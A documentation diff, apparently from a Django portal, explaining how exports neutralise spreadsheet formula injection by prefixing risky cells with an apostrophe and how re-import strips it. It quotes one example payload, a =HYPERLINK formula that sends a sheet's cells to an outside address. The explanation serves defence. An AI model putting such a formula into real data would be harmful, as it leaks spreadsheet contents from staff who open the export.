@@ -5,8 +5,9 @@ formula, and some drop a tab or a carriage return before one: a review a
 visitor wrote as ``=HYPERLINK("http://…?"&A1, "Click")`` would become, in
 the export staff open, a link that sends the sheet's cells away. Such a
 text is written with an apostrophe before it, which a spreadsheet reads as
-"this cell is text" and does not show. django-import-export's own setting
-for it takes out a leading ``=`` alone, losing it, and leaves the others.
+"this cell is text" (some show the apostrophe; none runs the cell).
+django-import-export's own setting for it takes out a leading ``=`` alone,
+losing it, and leaves the others.
 
 A file read back by the portal (the people import) takes that apostrophe
 out again, so that an export imported as it is changes nobody.
